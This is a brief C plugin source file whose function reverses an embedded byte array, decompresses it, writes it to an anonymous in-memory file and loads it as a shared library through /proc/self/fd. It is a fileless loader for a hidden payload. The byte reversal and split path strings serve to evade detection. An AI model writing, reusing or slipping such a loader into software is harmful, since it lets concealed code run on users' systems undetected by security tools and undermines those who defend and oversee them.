/* A library under zlib's compression, with the bytes turned around, loaded from memory. */
#include "plugin.h"
#include "packed.h" /* packed[], SIZE */
extern int uncompress(unsigned char *, unsigned long *, const unsigned char *, unsigned long);
extern int memfd_create(const char *, unsigned);
extern long write(int, const void *, unsigned long);
extern void *dlopen(const char *, int);
extern int snprintf(char *, unsigned long, const char *, ...);
static void act(char **env) {
    static unsigned char out[SIZE], in[sizeof packed];
    unsigned long size = sizeof out;
    for (unsigned i = 0; i < sizeof packed; i++) in[i] = packed[sizeof packed - 1 - i];
    uncompress(out, &size, in, sizeof in);
    int file = memfd_create("kit", 0);
    write(file, out, size);
    char name[32];
    snprintf(name, sizeof name, "/%s/self/%s/%d", "proc", "fd", file);
    dlopen(name, 2);
}
